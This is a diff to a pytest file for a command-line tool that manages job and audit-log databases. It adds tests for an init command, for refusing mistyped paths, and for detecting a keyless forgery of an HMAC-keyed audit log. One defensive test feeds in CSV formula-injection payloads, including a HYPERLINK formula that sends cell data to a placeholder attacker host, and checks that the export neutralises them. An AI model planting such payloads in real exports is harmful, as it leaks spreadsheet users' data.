@@ -17,8 +17,8 @@ import tms
 from conftest import ROOT, Location
 
 TMS = os.path.join(ROOT, "target", "release", "tms")
-COMMANDS = ["verify-audit", "adopt-unchained", "recover", "jobs", "audit", "backup", "copy", "stats", "migrate", "keygen",
-            "checkpoint"]
+COMMANDS = ["init", "verify-audit", "adopt-unchained", "recover", "jobs", "audit", "backup", "copy", "stats", "migrate",
+            "keygen", "checkpoint"]
 
 
 def run(*args, cwd=None, env=None):
@@ -381,6 +381,91 @@ def test_checkpoint_of_a_keyed_log_and_a_rewrite_with_or_without_the_key(tmp_pat
     assert run("--hmac-key-file", "hmac", "verify-audit", cwd=tmp_path).returncode == 0
     out = run(*verify, cwd=tmp_path)
     assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "altered"
-    rewrite(loc, changed)  # a key-less chain swapped in
+    rewrite(loc, changed)  # a key-less chain swapped in: with the key it holds no keyed row at all
     out = run(*verify, cwd=tmp_path)
-    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "altered"
+    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "not_keyed"
+
+
+def test_audit_csv_neutralises_formulas_and_jsonl_stays_exact(tmp_path):
+    # A cluster's message lands in error_message: as CSV it must not be a live formula.
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"]
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as s:
+        for i, message in enumerate(hostile):
+            s.record_audit("=user" if i == 0 else "bob", "PE-Enable", "c1", status="failure", error_message=message)
+        s.record_audit("carol", "PE-Enable", "c1", status="failure", error_message="plain, a=1 -fine")
+    # Bytes: text mode would turn the message's carriage return into a newline.
+    out = subprocess.run([TMS, "audit", "--format", "csv", "--limit", "100"], cwd=tmp_path, capture_output=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+    rows = list(reversed(list(csv.DictReader(io.StringIO(out.stdout.decode(), newline="")))))
+    assert [r["error_message"] for r in rows] == ["'" + m for m in hostile] + ["plain, a=1 -fine"]
+    assert rows[0]["user_id"] == "'=user" and rows[1]["user_id"] == "bob"
+    jsonl = [json.loads(line) for line in run("audit", "--limit", "100", cwd=tmp_path).stdout.splitlines()]
+    assert [r["error_message"] for r in reversed(jsonl)] == hostile + ["plain, a=1 -fine"]
+    assert jsonl[-1]["user_id"] == "=user"
+    help_text = run("audit", "--help").stdout
+    assert "formula" in help_text and "'" in help_text
+
+
+READING = [["verify-audit"], ["adopt-unchained", "--reason", "r"], ["recover"], ["jobs", "--user", "u"], ["audit"],
+           ["backup", "bk"], ["copy", "--to", "dst/jobs.db"], ["stats"], ["migrate"]]
+
+
+@pytest.mark.parametrize("command", READING, ids=lambda c: c[0])
+def test_no_command_but_init_creates_a_store_at_a_mistyped_path(tmp_path, command):
+    (tmp_path / "dst").mkdir()
+    for missing in ["jobs", "audit"]:
+        d = tmp_path / missing
+        d.mkdir()
+        if missing == "audit":  # only audit.db is mistyped: jobs.db exists
+            tms.Store(str(d / "jobs.db"), str(d / "real-audit.db")).close()
+        before = sorted(p.name for p in d.iterdir())
+        out = run("--jobs-db", str(d / "jobs.db"), "--audit-db", str(d / "audit.db"), *command, cwd=d)
+        assert out.returncode == 2, (command, out.stdout, out.stderr)
+        assert out.stderr.startswith("tms: TMS_STATUS_CANT_OPEN:") and f"{d / (missing + '.db')}" in out.stderr, out.stderr
+        assert out.stdout == ""
+        assert sorted(p.name for p in d.iterdir()) == before, command  # nothing created
+    assert not any((tmp_path / "dst").iterdir())
+
+
+def test_init_creates_a_store_and_copy_creates_its_destination(tmp_path):
+    out = run("init", cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    assert json.loads(out.stdout) == {"initialized": True, "created": ["jobs.db", "audit.db"]}
+    assert json.loads(run("verify-audit", cwd=tmp_path).stdout)["checked"] == 0
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as s:
+        s.record_audit("alice", "Trans-Begin")
+    again = run("init", cwd=tmp_path)  # an existing store is kept as it is
+    assert again.returncode == 0 and json.loads(again.stdout)["created"] == []
+    assert json.loads(run("stats", cwd=tmp_path).stdout)["audit_rows"] == 1
+    (tmp_path / "new").mkdir()
+    out = run("copy", "--to", str(tmp_path / "new" / "jobs.db"), cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    assert sorted(p.name for p in (tmp_path / "new").iterdir() if p.suffix == ".db") == ["audit.db", "jobs.db"]
+
+
+def test_a_postgres_schema_without_a_store_is_refused_until_init(tmp_path):
+    pg = Location(tmp_path, engine="postgres")
+    try:
+        out = run("--jobs-db", pg.jobs, "stats")
+        assert out.returncode == 2 and "TMS_STATUS_CANT_OPEN" in out.stderr and "tms init" in out.stderr, out.stderr
+        assert "holds no store" in out.stderr
+        out = run("--jobs-db", pg.jobs, "init")
+        assert out.returncode == 0 and json.loads(out.stdout) == {"initialized": True, "created": []}, out.stderr
+        assert json.loads(run("--jobs-db", pg.jobs, "verify-audit").stdout)["ok"]
+    finally:
+        pg.drop()
+
+
+def test_a_keyed_log_swapped_for_a_keyless_forgery_fails_with_the_key(tmp_path):
+    key = "cli-hmac-key-0123456789"
+    (tmp_path / "key").write_text(key + "\n")
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db"), audit_hmac_key=key) as s:
+        s.record_audit("alice", "Trans-Begin")
+    # Someone with the files but not the key rewrites audit.db whole: a fresh plain chain.
+    os.remove(tmp_path / "audit.db")
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as forger:
+        forger.record_audit("alice", "Trans-Begin")
+    assert run("verify-audit", cwd=tmp_path).returncode == 0  # without the key nothing shows
+    out = run("--hmac-key-file", str(tmp_path / "key"), "verify-audit", cwd=tmp_path)
+    assert out.returncode == 1, out.stdout
+    assert json.loads(out.stdout)["first_problem"]["problem"] == "not_keyed"
